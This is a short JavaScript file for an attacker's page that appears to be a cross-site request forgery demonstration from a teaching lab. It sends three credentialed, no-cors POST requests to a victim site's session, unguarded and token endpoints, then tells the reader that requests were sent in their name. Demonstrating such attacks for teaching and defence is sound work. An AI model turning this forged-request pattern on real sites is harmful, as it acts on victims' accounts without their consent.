// The attacker's page: what any page may send without asking first, with whatever the browser adds by itself.
const { victim, run } = document.querySelector("main").dataset;
const form = () => new URLSearchParams({ text: "Written by another page" });
const send = (path, label, body, type) => fetch(`${victim}${path}?q=${run}.forged-${label}`, {
  method: "POST",
  mode: "no-cors",
  credentials: "include",
  body,
  headers: { "Content-Type": type },
}).catch(() => undefined);

await send("/sessions/", "page", form(), "application/x-www-form-urlencoded");
await send("/attacks/unguarded/", "unguarded", form(), "application/x-www-form-urlencoded");
await send("/tokens/notes/", "api", JSON.stringify({ text: "Written by another page" }), "text/plain");
document.querySelector("#said").textContent = "While you read this, three requests were sent in your name. Close this window.";
